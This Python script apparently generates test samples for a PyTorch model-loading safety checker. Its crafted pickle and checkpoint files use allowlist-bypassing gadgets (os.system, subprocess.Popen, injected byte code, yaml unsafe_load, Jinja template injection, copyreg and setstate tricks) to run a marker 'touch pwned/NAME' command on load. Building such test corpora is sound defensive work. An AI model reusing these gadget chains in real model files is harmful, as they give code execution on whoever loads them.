"""Makes files that a list of harmless names could be fooled by, each in one way.

    python3 gadgets.py FOLDER         writes the files and manifest.json

What is harmful about them is an empty file `pwned/NAME` in the working folder of whoever loads them, or what the
sample's name says. `scripts/check/verdict.py FOLDER` loads them where they can do no harm, and says which of them
execute. Standard library only; a few samples hold byte code, which runs in the version of Python that made it.
The rows of the manifest are those of make.py, with two more verdicts: "not safe" is any but safe, a refusal too; "any" is
any, since nothing happens. And

    executes  the way of verdict.py in which loading with PyTorch 2.13 executes something: "torch", "jit", "records";
              null where it is only dubious: changes a state, asks for much memory, or depends on what is installed
"""

import io
import json
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile

import make
from make import LEGACY, STORAGE, call, folder, get, legacy, rows, sample, saved, stack_get, state_dict, tensor, text

NONE, TRUE, FALSE, EMPTY = b"N", b"\x88", b"\x89", b")"
MODELS = pathlib.Path(__file__).resolve().parent.parent.parent / "models"


# Pieces of pickles.


def number(value):
    return b"J" + struct.pack("<i", value)


def raw(data):
    return b"B" + struct.pack("<I", len(data)) + data


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def lst(*items):
    return b"](" + b"".join(items) + b"e"


def dct(*items):
    return b"}(" + b"".join(items) + b"u"


def new(cls, *arguments):
    """NEWOBJ"""
    return cls + tup(*arguments) + b"\x81"


def build(target, state):
    return target + state + b"b"


def path(stem):
    return f"pwned/{stem}"


def command(stem):
    return text(f"touch {path(stem)}")


def source(stem):
    return f"open({path(stem)!r}, 'w')"


def inner(stem):
    """A pickle within a pickle."""
    return b"\x80\x04" + call(get("os", "system"), command(stem)) + b"."


def code(stem, types="torch.fx._symbolic_trace"):
    """A function that takes anything, made of byte code under names that PyTorch's modules import."""
    made = compile(f"def f(*a, **k):\n    {source(stem)}\n    return 1.0\n", "", "exec").co_consts[0]
    texts = lambda names: tup(*(text(name) for name in names))
    constants = tup(*(NONE if one is None else b"G" + struct.pack(">d", one) if isinstance(one, float) else text(one) for one in made.co_consts))
    counts = (made.co_argcount, made.co_posonlyargcount, made.co_kwonlyargcount, made.co_nlocals, made.co_stacksize, made.co_flags)
    parts = [*map(number, counts), raw(made.co_code), constants, texts(made.co_names), texts(made.co_varnames), text("f"), text("f")]
    if sys.version_info >= (3, 11):
        parts += [text("f"), number(1), raw(made.co_linetable), raw(made.co_exceptiontable)]
    else:
        parts += [number(1), raw(getattr(made, "co_linetable", b""))]
    return call(get(types, "FunctionType"), call(get(types, "CodeType"), *parts), b"}")


def parameter():
    return call(get("torch._utils", "_rebuild_parameter"), tensor(), TRUE, call(get("collections", "OrderedDict")))


def module(cls=("torch.nn.modules.module", "Module"), **attributes):
    """A module as PyTorch pickles it, with these attributes."""
    empty = {name: b"}" for name in ("_parameters", "_buffers", "_modules", "_backward_hooks", "_forward_hooks", "_forward_pre_hooks")}
    state = {"training": FALSE, "_non_persistent_buffers_set": call(get("builtins", "set")), **empty, **attributes}
    return build(new(get(*cls)), dct(*(text(name) + value for name, value in state.items())))


def namespace(**attributes):
    return build(new(get("argparse", "Namespace")), dct(*(text(name) + value for name, value in attributes.items())))


def note(file, content, verdict, names, executes):
    sample(file, content, verdict, names)
    rows[-1]["executes"] = executes


def unsafe(stem, harm, *names, verdict="not safe", executes="torch", alone=False, protocol=4, more=()):
    """A sample as an entry of a state dict, or by itself."""
    harm = harm(stem) if callable(harm) else harm
    if alone:
        note(f"{stem}.pkl", b"\x80" + bytes([protocol]) + harm + b".", verdict, names, executes and "pickle")
    else:
        data = b"\x80" + bytes([protocol]) + state_dict(harm)[2:]
        note(f"{stem}.pt", saved(data, *more), verdict, names, executes)


def danger(stem, harm, *names, **more):
    """A sample with a name that runs, writes, loads or connects."""
    unsafe(stem, harm, *names, verdict="dangerous", **more)


def maybe(stem, harm, *names, **more):
    """Dubious: executes nothing that is noticed, or not everywhere."""
    unsafe(stem, harm, *names, executes=None, **more)


# The samples.


def torchs_own_names():
    """Nothing is named but what PyTorch and the packages that it needs bring along."""
    symbolic = "torch.fx.experimental.symbolic_shapes"
    shell = lambda stem: text(f"__import__('os').system('touch {path(stem)}')")
    unsafe("sympy_function", lambda stem: call(get(symbolic, "FloorDiv"), shell(stem), number(1)), f"{symbolic}.FloorDiv")
    unsafe("sympy_function_new", lambda stem: new(get(symbolic, "FloorDiv"), shell(stem), number(1)), f"{symbolic}.FloorDiv")
    unsafe("sympy_mod", lambda stem: call(get("torch.utils._sympy.functions", "PythonMod"), shell(stem), number(2)), "torch.utils._sympy.functions.PythonMod")
    unsafe("sympy_application", lambda stem: call(get("sympy", "sin"), shell(stem)), "sympy.sin")
    unsafe("sympy_parse", lambda stem: call(get("sympy.parsing.sympy_parser", "parse_expr"), shell(stem)), "sympy.parsing.sympy_parser.parse_expr")
    unsafe("sympy_sympify", lambda stem: call(get("sympy.core.sympify", "sympify"), shell(stem)), "sympy.core.sympify.sympify")
    danger("sympy_dotted", lambda stem: call(stack_get(symbolic, "sympy.sympify"), shell(stem)))
    unsafe("reduce_by_getattr_chain", lambda stem: call(get("functools", "reduce"), get("builtins", "getattr"), lst(get("torch", "serialization"), text("os"), text("system"))) + command(stem) + b"\x85R", "functools.reduce", verdict="dangerous")
    danger("config_of_fx", lambda stem: call(get("torch.fx.experimental._config", "load_config"), raw(inner(stem))), "torch.fx.experimental._config.load_config")
    danger("config_of_functorch", lambda stem: call(get("torch._functorch.config", "load_config"), raw(inner(stem))), "torch._functorch.config.load_config")
    danger("config_of_compiler", lambda stem: call(get("torch.compiler.config", "load_config"), raw(inner(stem))), "torch.compiler.config.load_config")
    pipe = "torch.utils.data.datapipes"
    unsafe("datapipe_wrapper", lambda stem: build(new(get(f"{pipe}.datapipe", "_DataPipeSerializationWrapper")), tup(raw(inner(stem)), FALSE)), f"{pipe}.datapipe._DataPipeSerializationWrapper")
    unsafe("map_datapipe_wrapper", lambda stem: build(new(get(f"{pipe}.datapipe", "_MapDataPipeSerializationWrapper")), tup(raw(inner(stem)), FALSE)), f"{pipe}.datapipe._MapDataPipeSerializationWrapper")
    unsafe("datapipe_decoder", lambda stem: call(get(f"{pipe}.utils.decoder", "basichandlers"), text("pickle"), raw(inner(stem))), f"{pipe}.utils.decoder.basichandlers")
    unsafe("datapipe_in_set", lambda stem: call(get("builtins", "set"), call(get(f"{pipe}.iter", "Mapper"), lst(number(1)), code(stem))), f"{pipe}.iter.Mapper")
    unsafe("datapipe_in_deque", lambda stem: call(get("collections", "deque"), call(get(f"{pipe}.iter", "Mapper"), lst(number(1)), code(stem))), f"{pipe}.iter.Mapper")
    unsafe("datapipe_mapper", lambda stem: call(get("builtins", "list"), call(get(f"{pipe}.iter", "Mapper"), lst(number(1)), code(stem))), f"{pipe}.iter.Mapper")
    unsafe("type_of_schema", lambda stem: call(get("torch.fx.operator_schemas", "_torchscript_type_to_python_type"), namespace(annotation_str=text(source(stem)))), "torch.fx.operator_schemas._torchscript_type_to_python_type")
    finder = call(get("torch._jit_internal", "createResolutionCallbackFromEnv"), get("torch", "serialization"))
    danger("resolution_callback", lambda stem: call(call(finder, text("os.system")), command(stem)), "torch._jit_internal.createResolutionCallbackFromEnv")
    danger("import_dotted_name", lambda stem: call(call(get("torch._utils", "_import_dotted_name"), text("os.system")), command(stem)), "torch._utils._import_dotted_name")
    danger("attribute_from_name", lambda stem: call(call(get("torch.ao.quantization.utils", "getattr_from_fqn"), get("torch", "serialization"), text("os.system")), command(stem)), "torch.ao.quantization.utils.getattr_from_fqn")
    handler = get("torch.distributed.elastic.multiprocessing.subprocess_handler", "SubprocessHandler")
    unsafe("subprocess_handler", lambda stem: call(handler, text("touch"), tup(text(path(stem))), b"}", NONE, NONE, number(0), NONE), "torch.distributed.elastic.multiprocessing.subprocess_handler.SubprocessHandler")
    maybe("file_store", lambda stem: call(get("torch.distributed", "FileStore"), text(path(stem)), number(1)), "torch.distributed.FileStore")
    unsafe("file_writer", lambda stem: call(get("torch._C", "PyTorchFileWriter"), text(path(stem))), "torch._C.PyTorchFileWriter")
    unsafe("from_file_of_vf", lambda stem: call(get("torch._VF", "from_file"), text(path(stem)), TRUE, number(8)), "torch._VF.from_file", verdict="dangerous")
    danger("from_file_dotted", lambda stem: call(stack_get("torch._C", "_VariableFunctionsClass.from_file"), text(path(stem)), TRUE, number(8)))
    by_name = call(get("builtins", "getattr"), get("torch._C", "_VariableFunctionsClass"), text("from_file"))
    danger("from_file_by_getattr", lambda stem: call(by_name, text(path(stem)), TRUE, number(8)))
    danger("storage_from_file", lambda stem: call(stack_get("torch", "UntypedStorage.from_file"), text(path(stem)), TRUE, number(8)))
    danger("operator_from_file", lambda stem: call(stack_get("torch", "ops.aten.from_file"), text(path(stem)), TRUE, number(8)))
    unsafe("package_exporter", lambda stem: call(get("torch.package.package_exporter", "PackageExporter"), text(path(stem))), "torch.package.package_exporter.PackageExporter", verdict="dangerous")
    unsafe("file_baton", lambda stem: call(stack_get("torch.utils.file_baton", "FileBaton.try_acquire"), call(get("torch.utils.file_baton", "FileBaton"), text(path(stem)))), "torch.utils.file_baton.FileBaton.try_acquire")
    unsafe("benchmark_timer", lambda stem: call(stack_get("torch.utils.benchmark", "Timer.timeit"), call(get("torch.utils.benchmark", "Timer"), text(source(stem))), number(1)), "torch.utils.benchmark.Timer.timeit")
    unsafe("graph_of_module_to_folder", lambda stem: call(stack_get("torch.fx.graph_module", "Path.touch"), call(get("torch.fx.graph_module", "Path"), text(path(stem)))), "torch.fx.graph_module.Path.touch")
    closed = namespace(closed=FALSE, close=get("torch.utils.collect_env", "main"))
    danger("stream_wrapper_del", lambda stem: build(new(get(f"{pipe}.utils.common", "StreamWrapper")), closed) + b"0N", "torch.utils.collect_env.main")
    event = namespace(set=get("torch.utils.collect_env", "main"))
    iterator = get("torch.utils.data.dataloader", "_MultiProcessingDataLoaderIter")
    state = dct(text("_shutdown") + FALSE, text("_pin_memory_thread") + b"N", text("_pin_memory_thread_done_event") + event, text("_workers") + b"]")
    danger("loader_iterator_del", lambda stem: build(new(iterator), state) + b"0N", "torch.utils.data.dataloader._MultiProcessingDataLoaderIter")
    loader = lambda stem: call(get("torch.utils.data.dataloader", "DataLoader"), lst(number(1)), number(1), NONE, NONE, NONE, number(0), code(stem))
    unsafe("data_loader_collate", lambda stem: call(get("builtins", "list"), loader(stem)), "torch.utils.data.dataloader.DataLoader")
    unsafe("tensor_to_object", lambda stem: call(get("torch.distributed.distributed_c10d", "_unpickler"), call(get("_io", "BytesIO"), raw(inner(stem)))) + b"0" + call(stack_get("torch.distributed.distributed_c10d", "_unpickler.load"), call(get("torch.distributed.distributed_c10d", "_unpickler"), call(get("_io", "BytesIO"), raw(inner(stem))))), "torch.distributed.distributed_c10d._unpickler", verdict="dangerous")
    package = get("torch.serialization", "register_package")
    unsafe("register_deserializer", lambda stem: call(package, number(0), code(stem), code(stem)) + b"0" + tensor(key="1"), "torch.serialization.register_package", more=[("data/1", STORAGE)])
    reader = text("http://127.0.0.1:9/model.pt")
    danger("model_zoo", lambda stem: call(get("torch.utils.model_zoo", "load_url"), reader, text("pwned")), "torch.utils.model_zoo.load_url")
    danger("hub_file", lambda stem: call(get("torch.hub", "download_url_to_file"), reader, text(path(stem))), "torch.hub.download_url_to_file")
    unsafe("vision_weights", lambda stem: call(stack_get("torchvision.models", "WeightsEnum.get_state_dict"), namespace(url=reader)), "torchvision.models.WeightsEnum.get_state_dict")
    danger("vision_download", lambda stem: call(get("torchvision.datasets.utils", "download_url"), reader, text("pwned")), "torchvision.datasets.utils.download_url")
    danger("vision_image_write", lambda stem: call(get("torchvision.io", "write_file"), text(path(stem)), call(get("torch._utils", "_rebuild_tensor_v2"), b"(" + text("storage") + get("torch", "ByteStorage") + text("1") + text("cpu") + b"K\x08tQ", number(0), tup(number(8)), tup(number(1)), FALSE, call(get("collections", "OrderedDict")))), "torchvision.io.write_file", more=[("data/1", STORAGE)])
    danger("tcp_store", lambda stem: call(get("torch.distributed", "TCPStore"), text("127.0.0.1"), number(0), number(1), TRUE), "torch.distributed.TCPStore", executes=None)


def callbacks():
    """Classes and functions of PyTorch that call what they are given."""
    optimizer = call(get("torch.optim.sgd", "SGD"), lst(parameter()), b"G" + struct.pack(">d", 0.1))
    scheduler = "torch.optim.lr_scheduler"
    unsafe("lambda_lr", lambda stem: call(get(scheduler, "LambdaLR"), optimizer, code(stem)), f"{scheduler}.LambdaLR")
    unsafe("multiplicative_lr", lambda stem: call(get(scheduler, "MultiplicativeLR"), optimizer, code(stem)) + b"0" + call(stack_get(scheduler, "LambdaLR.step"), call(get(scheduler, "LambdaLR"), optimizer, code(stem))), f"{scheduler}.MultiplicativeLR")
    danger("lambda_lr_partial", lambda stem: call(get(scheduler, "LambdaLR"), optimizer, call(get("functools", "partial"), get("subprocess", "call"), lst(text("touch"), text(path(stem))))), "subprocess.call")
    unsafe("hook_of_module", lambda stem: call(stack_get("torch.nn.modules.module", "Module.__call__"), module(("torch.nn.modules.linear", "Identity"), _forward_hooks=dct(number(0) + code(stem))), number(1)), "torch.nn.modules.module.Module.__call__", verdict="dangerous")
    unsafe("apply_of_module", lambda stem: call(stack_get("torch.nn", "Module.apply"), module(), code(stem)), "torch.nn.Module.apply")
    unsafe("apply_of_module_alias", lambda stem: call(stack_get("torch.nn.modules.conv", "Module.apply"), module(), code(stem)), "torch.nn.modules.conv.Module.apply")
    unsafe("functional_call", lambda stem: call(get("torch.func", "functional_call"), module(("torch.nn.modules.linear", "Identity"), _forward_hooks=dct(number(0) + code(stem))), b"}", tup(number(1))), "torch.func.functional_call")
    unsafe("parametrization", lambda stem: call(get("torch.nn.utils.parametrize", "register_parametrization"), module(("torch.nn.modules.linear", "Linear"), _parameters=dct(text("weight") + parameter())), text("weight"), module(("torch.nn.modules.linear", "Identity"), _forward_hooks=dct(number(0) + code(stem)))), "torch.nn.utils.parametrize.register_parametrization")
    unsafe("checkpoint", lambda stem: call(get("torch.utils.checkpoint", "checkpoint"), code(stem), number(1)), "torch.utils.checkpoint.checkpoint")
    unsafe("vmap", lambda stem: call(get("torch.autograd.functional", "jacobian"), code(stem), tensor()), "torch.autograd.functional.jacobian")
    unsafe("rebuild_from_type", lambda stem: call(get("torch._tensor", "_rebuild_from_type_v2"), code(stem), get("torch", "Tensor"), EMPTY, NONE), "torch._tensor._rebuild_from_type_v2")
    unsafe("rebuild_from_type_v1", lambda stem: call(get("torch._tensor", "_rebuild_from_type"), code(stem), get("torch", "Tensor"), EMPTY, b"}"), "torch._tensor._rebuild_from_type")
    danger("rebuild_from_type_of_a_package", lambda stem: call(get("torch._tensor", "_rebuild_from_type_v2"), get("torch.package", "PackageExporter"), get("torch", "Tensor"), tup(text(path(stem))), NONE), "torch.package.PackageExporter")
    unsafe("rebuild_storage_empty", lambda stem: call(get("torch.multiprocessing.reductions", "rebuild_storage_empty"), code(stem)), "torch.multiprocessing.reductions.rebuild_storage_empty", verdict="dangerous")
    unsafe("tree_map", lambda stem: call(get("torch.utils._pytree", "tree_map"), code(stem), lst(number(1))), "torch.utils._pytree.tree_map")
    danger("tree_map_of_commands", lambda stem: call(get("torch.utils._pytree", "tree_map"), get("os", "system"), lst(command(stem))), "os.system")
    unsafe("symbolic_trace", lambda stem: call(get("torch.fx", "symbolic_trace"), code(stem)), "torch.fx.symbolic_trace")
    unsafe("dispatcher", lambda stem: call(stack_get("torch.fx.experimental.unification.multipledispatch.dispatcher", "Dispatcher.__call__"), build(new(get("torch.fx.experimental.unification.multipledispatch.dispatcher", "Dispatcher")), dct(text("name") + text("n"), text("funcs") + dct(tup(get("builtins", "int")) + code(stem)))), number(1)), "torch.fx.experimental.unification.multipledispatch.dispatcher.Dispatcher.__call__", verdict="dangerous")
    unsafe("lambda_of_transforms", lambda stem: call(stack_get("torchvision.transforms", "Lambda.__call__"), call(get("torchvision.transforms", "Lambda"), code(stem)), number(1)), "torchvision.transforms.Lambda.__call__", verdict="dangerous")
    maybe("lambda_of_transforms_kept", lambda stem: build(new(get("torchvision.transforms.transforms", "Lambda")), dct(text("lambd") + code(stem))))
    maybe("partial_wrapper", lambda stem: build(new(get("torch.ao.quantization.observer", "_PartialWrapper")), dct(text("p") + call(get("functools", "partial"), code(stem)), text("callable_args") + dct(text("factory") + code(stem)))), verdict="dangerous")
    maybe("hooks_of_tensor", lambda stem: call(get("torch._utils", "_rebuild_parameter"), tensor(), TRUE, dct(number(0) + code(stem))))
    unsafe("global_hook", lambda stem: call(get("torch.nn.modules.module", "register_module_forward_hook"), code(stem)), "torch.nn.modules.module.register_module_forward_hook")
    unsafe("safe_globals", lambda stem: call(get("torch.serialization", "add_safe_globals"), lst(get("os", "system"))), "torch.serialization.add_safe_globals", verdict="dangerous")
    unsafe("default_dtype", lambda stem: call(get("torch", "set_default_dtype"), get("torch", "float64")), "torch.set_default_dtype")


def pythons_own_names():
    """Modules of Python that seldom are on a list of dangerous ones."""
    danger("mailcap", lambda stem: call(get("mailcap", "findmatch"), dct(text("a/b") + lst(dct(text("view") + text("x"), text("test") + command(stem)))), text("a/b")), "mailcap.findmatch")
    danger("imap_stream", lambda stem: call(get("imaplib", "IMAP4_stream"), command(stem)), "imaplib.IMAP4_stream")
    danger("argparse_file_type", lambda stem: call(call(get("argparse", "FileType"), text("w")), text(path(stem))), "argparse.FileType")
    danger("create_function", lambda stem: call(get("dataclasses", "_create_fn"), text("f"), lst(text("a=" + source(stem))), lst(text("pass"))), "dataclasses._create_fn")
    danger("make_dataclass", lambda stem: call(get("dataclasses", "make_dataclass"), text("X"), b"]") + b"0" + call(call(get("builtins", "type"), text("X"), EMPTY, dct(text("__init__") + code(stem)))), "builtins.type")
    unsafe("new_class", lambda stem: call(get("types", "new_class"), text("X"), EMPTY, NONE, code(stem)), "types.new_class")
    danger("class_with_del", lambda stem: call(call(get("builtins", "type"), text("X"), EMPTY, dct(text("__del__") + code(stem)))) + b"0N", "builtins.type")
    danger("metaclass", lambda stem: call(call(get("abc", "ABCMeta"), text("X"), EMPTY, dct(text("__new__") + code(stem)))), "abc.ABCMeta")
    maybe("enum_functional", lambda stem: call(get("enum", "Enum"), text("X"), text("a b")), "enum.Enum")
    maybe("namedtuple", lambda stem: call(get("collections", "namedtuple"), text("X"), text("a b")), "collections.namedtuple")
    danger("forward_reference", lambda stem: call(stack_get("typing", "ForwardRef._evaluate"), call(get("typing", "ForwardRef"), text(source(stem))), b"}", b"}", call(get("builtins", "frozenset"))), "typing.ForwardRef")
    danger("type_hints", lambda stem: call(get("typing", "get_type_hints"), namespace(__annotations__=dct(text("a") + text(source(stem))))), "typing.get_type_hints")
    danger("weakref_finalize", lambda stem: call(get("weakref", "finalize"), new(get("argparse", "Namespace")), get("os", "system"), command(stem)), "weakref.finalize")
    unsafe("weakref_callback", lambda stem: call(get("weakref", "ref"), new(get("argparse", "Namespace")), code(stem)), "weakref.ref", verdict="dangerous")
    stack = "torch.fx.experimental.proxy_tensor"
    pushed = lambda stem: call(stack_get(stack, "ExitStack.close"), call(get(stack, "ExitStack")) + b"q\xf0" + b"0" + call(stack_get(stack, "ExitStack.callback"), b"h\xf0", code(stem)) + b"0h\xf0")
    unsafe("exit_stack", pushed, "torch.fx.experimental.proxy_tensor.ExitStack.close")
    danger("reconstructor_with_init", lambda stem: call(get("copyreg", "_reconstructor"), get("subprocess", "Popen"), get("subprocess", "Popen"), lst(text("touch"), text(path(stem)))), "subprocess.Popen")
    danger("reconstructor_of_a_package", lambda stem: call(get("copyreg", "_reconstructor"), get("torch.package", "PackageExporter"), get("torch.package", "PackageExporter"), text(path(stem))), "torch.package.PackageExporter")
    danger("extension_registry", lambda stem: call(get("copyreg", "add_extension"), text("os"), text("system"), number(240)) + b"0" + call(b"\x82\xf0", command(stem)), "copyreg.add_extension")
    maybe("extension_unknown", lambda stem: call(b"\x82\xf0", command(stem)), "copyreg.extension(240)")
    danger("copyreg_pickle", lambda stem: call(get("copyreg", "pickle"), get("builtins", "complex"), code(stem)), "copyreg.pickle", executes=None)
    danger("resolve_name_of_mock", lambda stem: call(call(stack_get("unittest.mock", "pkgutil.resolve_name"), text("os:system")), command(stem)), "unittest.mock.pkgutil.resolve_name")
    danger("resolve_name", lambda stem: call(call(get("pkgutil", "resolve_name"), text("os:system")), command(stem)), "pkgutil.resolve_name")
    danger("logging_resolve", lambda stem: call(call(get("logging.config", "_resolve"), text("os.system")), command(stem)), "logging.config._resolve")
    danger("logging_file", lambda stem: call(get("logging", "FileHandler"), text(path(stem))), "logging.FileHandler")
    unsafe("wave_file", lambda stem: call(get("wave", "open"), text(path(stem)), text("wb")), "wave.open", verdict="dangerous")
    danger("mailbox_file", lambda stem: call(get("mailbox", "mbox"), text(path(stem))), "mailbox.mbox")
    danger("dbm_dumb", lambda stem: call(get("dbm.dumb", "open"), text(path(stem)), text("c")), "dbm.dumb.open")
    danger("sqlite", lambda stem: call(get("sqlite3", "connect"), text(path(stem))), "sqlite3.connect")
    danger("zip_file", lambda stem: call(get("zipfile", "ZipFile"), text(path(stem)), text("w")), "zipfile.ZipFile")
    danger("temporary_closer", lambda stem: build(new(get("tempfile", "_TemporaryFileCloser")), dct(text("file") + namespace(close=get("builtins", "list")), text("delete") + TRUE, text("name") + text(path(stem)))) + b"0N", "tempfile._TemporaryFileCloser")
    danger("socket_connect", lambda stem: call(get("socket", "create_connection"), tup(text("127.0.0.1"), number(9))), "socket.create_connection")
    danger("http_server", lambda stem: call(get("http.server", "HTTPServer"), tup(text("127.0.0.1"), number(0)), NONE), "http.server.HTTPServer")
    danger("xml_parser", lambda stem: call(get("xml.sax", "make_parser"), lst(text("beside_the_model"))), "xml.sax.make_parser")
    (folder / "beside_the_model.py").write_text(source("xml_parser"))
    danger("ctypes_library", lambda stem: call(get("ctypes", "CDLL"), NONE), "ctypes.CDLL")
    danger("finalize_of_processes", lambda stem: call(get("multiprocessing.util", "Finalize"), new(get("argparse", "Namespace")), get("os", "system"), tup(command(stem))), "os.system")
    danger("set_attribute_of_module", lambda stem: call(get("builtins", "setattr"), get("torch", "serialization"), text("MAGIC_NUMBER"), number(1)), "builtins.setattr")


def packages():
    """Packages that are installed with PyTorch, and those that checkpoints name."""
    template = lambda stem: text("{{ cycler.__init__.__globals__.os.system('touch %s') }}" % path(stem))
    danger("jinja_template", lambda stem: call(stack_get("jinja2", "Template.render"), call(get("jinja2", "Template"), template(stem))), "jinja2.Template.render")
    unsafe("image_math", lambda stem: call(get("PIL.ImageMath", "unsafe_eval"), text(f"__import__('os').system('touch {path(stem)}')")), "PIL.ImageMath.unsafe_eval")
    danger("yaml", lambda stem: call(get("yaml", "unsafe_load"), text(f"!!python/object/apply:os.system ['touch {path(stem)}']")), "yaml.unsafe_load")
    unsafe("yaml_constructor", lambda stem: call(stack_get("yaml.loader", "UnsafeLoader.get_single_data"), call(get("yaml.loader", "UnsafeLoader"), text(f"!!python/object/apply:os.system ['touch {path(stem)}']"))), "yaml.loader.UnsafeLoader")
    danger("numpy_memmap", lambda stem: call(get("numpy", "memmap"), text(path(stem)), text("uint8"), text("w+"), number(0), number(8)), "numpy.memmap")
    danger("numpy_memmap_alias", lambda stem: call(get("numpy._core.memmap", "memmap"), text(path(stem)), text("uint8"), text("w+"), number(0), number(8)), "numpy._core.memmap.memmap")
    danger("numpy_open_memmap", lambda stem: call(get("numpy.lib.format", "open_memmap"), text(path(stem)), text("w+"), text("uint8"), tup(number(8))), "numpy.lib.format.open_memmap")
    danger("numpy_run_string", lambda stem: call(get("numpy.testing._private.utils", "runstring"), text(source(stem)), b"}"), "numpy.testing._private.utils.runstring")
    array = call(get("numpy._core.multiarray", "_reconstruct"), get("numpy", "ndarray"), tup(number(0)), raw(b"b"))
    danger("numpy_dump", lambda stem: call(stack_get("numpy", "ndarray.tofile"), array, text(path(stem))), "numpy.ndarray.tofile")
    unsafe("numpy_generator", lambda stem: call(get("numpy.random._pickle", "__generator_ctor"), number(1), code(stem)), "numpy.random._pickle.__generator_ctor")
    danger("numpy_savetxt", lambda stem: call(get("numpy.lib._npyio_impl", "savetxt"), text(path(stem)), lst(number(1))), "numpy.lib._npyio_impl.savetxt")
    unsafe("numpy_from_function", lambda stem: call(get("numpy", "fromfunction"), code(stem), tup(number(1))), "numpy.fromfunction")
    unsafe("scipy_minimize", lambda stem: call(get("scipy.optimize", "brentq"), code(stem), number(0), number(1)), "scipy.optimize.brentq")
    unsafe("scipy_savemat", lambda stem: call(get("scipy.io", "savemat"), text(path(stem)), b"}"), "scipy.io.savemat")
    danger("joblib_load", lambda stem: call(get("joblib", "dump"), number(1), text(path(stem))), "joblib.dump")
    unsafe("sklearn_transformer", lambda stem: call(stack_get("sklearn.preprocessing", "FunctionTransformer.transform"), call(get("sklearn.preprocessing", "FunctionTransformer"), code(stem)), number(1)), "sklearn.preprocessing.FunctionTransformer.transform")
    unsafe("safetensors_file", lambda stem: call(get("safetensors.torch", "save_file"), b"}", text(path(stem))), "safetensors.torch.save_file")
    unsafe("file_lock", lambda stem: call(stack_get("filelock", "FileLock.acquire"), call(get("filelock", "FileLock"), text(path(stem)))), "filelock.FileLock.acquire")
    unsafe("fsspec_touch", lambda stem: call(stack_get("fsspec.implementations.local", "LocalFileSystem.touch"), call(get("fsspec.implementations.local", "LocalFileSystem")), text(path(stem))), "fsspec.implementations.local.LocalFileSystem.touch")
    unsafe("click_edit", lambda stem: call(get("click", "edit"), text("x"), text(f"touch {path(stem)};")), "click.edit")
    unsafe("pydantic_import", lambda stem: call(call(get("pydantic._internal._validators", "import_string"), text("os.system")), command(stem)), "pydantic._internal._validators.import_string", verdict="dangerous")
    (folder / "class_beside.py").write_text(source("transformers_class") + "\nclass X: pass\n")
    danger("transformers_class", lambda stem: call(get("transformers.dynamic_module_utils", "get_class_in_module"), text("X"), text("../../../../../class_beside.py")), "transformers.dynamic_module_utils.get_class_in_module", executes=None)
    unsafe("transformers_save", lambda stem: call(stack_get("transformers", "GenerationConfig.save_pretrained"), call(get("transformers", "GenerationConfig")), text(path(stem))), "transformers.GenerationConfig.save_pretrained")
    lazy = get("transformers.utils.import_utils", "_LazyModule")
    (folder / "lazily").mkdir(exist_ok=True)
    unsafe("transformers_lazy_module", lambda stem: build(call(lazy, text("xml"), text("x.py"), dct(text("sax") + lst(text("__setstate__")))), b"}") , "transformers.utils.import_utils._LazyModule", executes=None)
    unsafe("hub_download", lambda stem: call(get("huggingface_hub", "hf_hub_download"), text("someone/something"), text("config.json")), "huggingface_hub.hf_hub_download", executes=None)
    maybe("omegaconf", lambda stem: build(new(get("omegaconf.dictconfig", "DictConfig")), dct(text("_content") + dct(text("a") + text("${oc.env:HOME}")))), "omegaconf.dictconfig.DictConfig")
    maybe("lightning", lambda stem: new(get("pytorch_lightning.utilities.parsing", "AttributeDict")), "pytorch_lightning.utilities.parsing.AttributeDict")
    maybe("ultralytics", lambda stem: new(get("ultralytics.nn.tasks", "DetectionModel")), "ultralytics.nn.tasks.DetectionModel")
    maybe("timm", lambda stem: new(get("timm.models.vision_transformer", "VisionTransformer")), "timm.models.vision_transformer.VisionTransformer")


def machinery():
    """What the opcodes do by themselves, and the order in which they do it."""
    unsafe("append_attribute", lambda stem: namespace(append=get("os", "system")) + command(stem) + b"a", "os.system", verdict="dangerous")
    unsafe("extend_attribute", lambda stem: namespace(extend=code(stem)) + b"(" + number(1) + b"e")
    unsafe("add_attribute", lambda stem: namespace(add=get("os", "system")) + b"(" + command(stem) + b"\x90", "os.system", verdict="dangerous")
    danger("append_class_as_attribute", lambda stem: namespace(append=get("torch.package", "PackageExporter")) + text(path(stem)) + b"a", "torch.package.PackageExporter")
    unsafe("setstate_attribute", lambda stem: build(namespace(__setstate__=code(stem)), number(1)))
    unsafe("setstate_of_a_module", lambda stem: build(module(__setstate__=code(stem)), number(1)))
    unsafe("setstate_in_slots", lambda stem: build(build(new(get("argparse", "Namespace")), tup(NONE, dct(text("__setstate__") + code(stem)))), number(1)))
    state = lambda stem: dct(text("__setstate__") + code(stem)) + b"q\xf1"
    unsafe("setstate_overwritten_after", lambda stem: build(build(new(get("argparse", "Namespace")), state(stem)), number(1)) + b"0h\xf1" + text("__setstate__") + NONE + b"s")
    unsafe("setstate_by_update", lambda stem: build(build(new(get("argparse", "Namespace")), b"}q\xf1" + text("__setstate__") + code(stem) + b"s"), number(1)))
    unsafe("setstate_by_ordered_dict", lambda stem: build(build(new(get("argparse", "Namespace")), call(get("collections", "OrderedDict"), lst(lst(text("__setstate__"), code(stem))))), number(1)))
    danger("class_is_changed", lambda stem: build(get("torch.optim.lr_scheduler", "LambdaLR"), tup(NONE, dct(text("step") + code(stem)))), "torch.optim.lr_scheduler.LambdaLR")
    danger("class_is_changed_and_made", lambda stem: build(get("torch.optim.lr_scheduler", "StepLR"), tup(NONE, dct(text("__new__") + code(stem)))) + b"0" + new(get("torch.optim.lr_scheduler", "StepLR")), "torch.optim.lr_scheduler.StepLR")
    danger("module_is_changed", lambda stem: build(get("torch", "serialization"), dct(text("MAGIC_NUMBER") + number(1))), "torch.serialization")
    danger("function_is_changed", lambda stem: build(get("torch.ao.quantization.quantize", "_observer_forward_hook"), tup(NONE, dct(text("__defaults__") + tup(number(1))))), "torch.ao.quantization.quantize._observer_forward_hook", executes=None)
    danger("class_is_changed_by_function", lambda stem: call(get("torch._utils", "_set_obj_state"), get("torch.nn.modules.module", "Module"), dct(text("__call__") + code(stem))), "torch._utils._set_obj_state")
    state_ = b"q\xf2" + tup(NONE, dct(text("dump_patches") + TRUE)) + b"b0"
    patched = get("torch.optim.lr_scheduler", "LambdaLR") + state_ + b"(" + text("module") + b"h\xf2" + text("x.py") + text("old\n") + b"tQ"
    parts = {**LEGACY, "data": b"\x80\x04" + patched + b"."}
    note("legacy_patch_file.pt", legacy(**parts), "dangerous", (), "torch")
